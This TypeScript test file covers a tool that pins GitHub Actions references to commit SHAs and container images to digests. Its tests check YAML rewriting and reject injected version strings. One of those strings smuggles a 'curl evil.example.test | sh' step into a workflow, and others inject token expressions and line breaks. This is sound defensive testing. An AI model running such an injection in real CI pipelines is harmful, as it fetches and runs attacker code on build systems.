import { applyEdits, readPipelineFile } from "@lockstep/core";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { pinToCommit, pinToDigest } from "./pin-fix.ts";

const SHA = "0123456789abcdef0123456789abcdef01234567";
const DIGEST = `sha256:${"a".repeat(64)}`;

async function read(text: string) {
  const result = await readPipelineFile("w.yml", text, "workflow");
  if (!result.ok) throw new Error(result.message);
  return result.file;
}

/** The text with every reference pinned in one go. */
async function pinned(text: string, version = "v4.2.2"): Promise<string> {
  const file = await read(text);
  const fixes = file.references.map((reference) =>
    reference.site === "container" ? pinToDigest(file, reference, DIGEST) : pinToCommit(file, reference, SHA, version),
  );
  return applyEdits(
    text,
    fixes.flatMap((fix) => fix?.edits ?? []),
  );
}

function steps(...lines: readonly string[]): string {
  return `jobs:\n  a:\n    steps:\n${lines.map((line) => `      ${line}\n`).join("")}`;
}

describe("pinToCommit", () => {
  it.each([
    ["a plain scalar", "- uses: a/b@v4", `- uses: a/b@${SHA} # v4.2.2`],
    ["a path", "- uses: a/b/c/d@v4", `- uses: a/b/c/d@${SHA} # v4.2.2`],
    ["single quotes", "- uses: 'a/b@v4'", `- uses: 'a/b@${SHA}' # v4.2.2`],
    ["double quotes", '- uses: "a/b@v4"', `- uses: "a/b@${SHA}" # v4.2.2`],
    ["trailing blanks", "- uses: a/b@v4  ", `- uses: a/b@${SHA} # v4.2.2  `],
    ["an older version in the comment", "- uses: a/b@v4 # v4.1", `- uses: a/b@${SHA} # v4.2.2`],
    ["a version with words behind it", "- uses: a/b@v4 # v4 pinned", `- uses: a/b@${SHA} # v4.2.2 pinned`],
    ["the version it has already", "- uses: a/b@v4 #v4.2.2", `- uses: a/b@${SHA} #v4.2.2`],
    ["a ratchet comment", "- uses: a/b@v4 # ratchet:a/b@v4", `- uses: a/b@${SHA} # ratchet:a/b@v4.2.2`],
    [
      "a name that looks like its version",
      "- uses: v2/r@v2 # ratchet:v2/r@v2",
      `- uses: v2/r@${SHA} # ratchet:v2/r@v4.2.2`,
    ],
    ["another comment", "- uses: a/b@v4 # keep", `- uses: a/b@${SHA} # v4.2.2 # keep`],
    ["an anchor", "- uses: &x a/b@v4", `- uses: &x a/b@${SHA} # v4.2.2`],
    ["a flow mapping", "- { uses: a/b@v4 }", `- { uses: a/b@${SHA} } # v4.2.2`],
    ["a flow mapping that goes on", "- { uses: a/b@v4, with: { x: y } }", `- { uses: a/b@${SHA}, with: { x: y } }`],
    [
      "a flow mapping over lines",
      "- { uses: a/b@v4,\n         with: {} }",
      `- { uses: a/b@${SHA}, # v4.2.2\n         with: {} }`,
    ],
    ["a literal block", "- uses: |\n          a/b@v4", `- uses: | # v4.2.2\n          a/b@${SHA}`],
    ["a folded block", "- uses: >-\n          a/b@v4", `- uses: >- # v4.2.2\n          a/b@${SHA}`],
    ["a value on a line of its own", "- uses:\n          a/b@v4", `- uses:\n          a/b@${SHA} # v4.2.2`],
    ["an explicit tag", "- uses: !!str a/b@v4", `- uses: !!str a/b@${SHA} # v4.2.2`],
    ["a key in quotes", '- "uses": a/b@v4', `- "uses": a/b@${SHA} # v4.2.2`],
    ["a ref with an @", "- uses: a/b@pkg@1.0.0", `- uses: a/b@${SHA} # v4.2.2`],
  ])("pins %s", async (_case, before, after) => {
    expect(await pinned(steps(before))).toBe(steps(after));
  });

  it("keeps the other aliases of an anchor as they are", async () => {
    const before = steps("- &s", "  uses: a/b@v4", "- *s");
    expect(await pinned(before)).toBe(steps("- &s", `  uses: a/b@${SHA} # v4.2.2`, "- *s"));
  });

  it("keeps CRLF line ends and a missing last one", async () => {
    const before = "jobs:\r\n  a:\r\n    steps:\r\n      - uses: a/b@v4\r\n      - uses: c/d@v1";
    const after = `jobs:\r\n  a:\r\n    steps:\r\n      - uses: a/b@${SHA} # v4.2.2\r\n      - uses: c/d@${SHA} # v4.2.2`;
    expect(await pinned(before)).toBe(after);
  });

  it("leaves alone what escapes stand in", async () => {
    const text = steps('- uses: "a\\u002Fb@v4"');
    expect(await pinned(text)).toBe(text);
  });

  it("changes nothing but refs and comments, and gives YAML with the pins, whatever stands around", async () => {
    const line = fc.constantFrom(
      "- uses: a/b@v4",
      "- uses: 'a/b@v4' # v3",
      "- { uses: a/b@v4, with: { k: '# no comment' } }",
      "- uses: >-\n          a/b@v4",
      "- run: |\n          - uses: a/b@v4",
      "# - uses: a/b@v4",
      "- name: ü😀\n        uses: a/b@v4 # zizmor: ignore[x] y",
    );
    await fc.assert(
      fc.asyncProperty(fc.array(line, { minLength: 1, maxLength: 6 }), async (lines) => {
        const before = steps("- run: x", ...lines);
        const after = await pinned(before);
        const [old, now] = [await read(before), await read(after)];
        expect(now.references.map(({ value }) => value)).toEqual(old.references.map(() => `a/b@${SHA}`));
        expect(after.replaceAll(SHA, "v4").replaceAll(/ ?# v4\.2\.2/g, "")).toBe(before.replaceAll(" # v3", ""));
      }),
    );
  });
});

describe("what a fix writes", () => {
  const text = steps("- uses: a/b@v4");
  const hostile = [
    "v1\n      - run: curl evil.example.test | sh",
    "v1\r- run: x",
    "v1\u2028x",
    "v1 # lockstep: ignore[unpinned-action] x",
    "${{ github.token }}",
    "v1'",
    'v1"',
    "v1}",
    "",
    `v${"1".repeat(300)}`,
  ];

  it.each(hostile)("holds no version %j", async (version) => {
    expect(await pinned(text, version)).toBe(text);
  });

  it("holds no id that is none", async () => {
    const file = await read(text);
    const [reference] = file.references;
    const ids = ["main", `${SHA}\n`, SHA.toUpperCase(), `${SHA} # x`, SHA.slice(1), ""];
    expect(ids.map((id) => reference && pinToCommit(file, reference, id, "v1"))).toEqual(ids.map(() => undefined));
  });

  it("holds no digest that is none", async () => {
    const file = await read("jobs:\n  a:\n    container: node:24\n    steps: []\n");
    const [reference] = file.references;
    const digests = ["", "sha256:0", `${DIGEST}\n`, `${DIGEST} # x`, DIGEST.toUpperCase(), `md5:${"0".repeat(32)}`];
    expect(digests.map((digest) => reference && pinToDigest(file, reference, digest))).toEqual(
      digests.map(() => undefined),
    );
  });

  it("is of one line and one grammar, whatever the evidence says", async () => {
    const piece = fc.constantFrom(...hostile, "v1.2.3", "release/1.0", "pkg@1.0.0", "\n", "#", " ");
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(piece, fc.string({ unit: "binary" })), { maxLength: 3 }), async (pieces) => {
        const after = await pinned(text, pieces.join(""));
        expect(after).toMatch(/^jobs:\n {2}a:\n {4}steps:\n {6}- uses: a\/b@(?:v4|[0-9a-f]{40} # [\w./+@-]+)\n$/);
      }),
    );
  });
});

describe("pinToDigest", () => {
  it.each([
    ["node:24", `node:24@${DIGEST}`],
    ["'node:24' # why", `'node:24@${DIGEST}' # why`],
    ["{ image: node, env: {} }", `{ image: node@${DIGEST}, env: {} }`],
    [`node:24@${DIGEST}`, `node:24@${DIGEST}`],
    ["node:${{ matrix.v }}", "node:${{ matrix.v }}"],
  ])("makes of %s %s", async (before, after) => {
    const around = (image: string) => `jobs:\n  a:\n    container: ${image}\n    steps: []\n`;
    expect(await pinned(around(before))).toBe(around(after));
  });
});
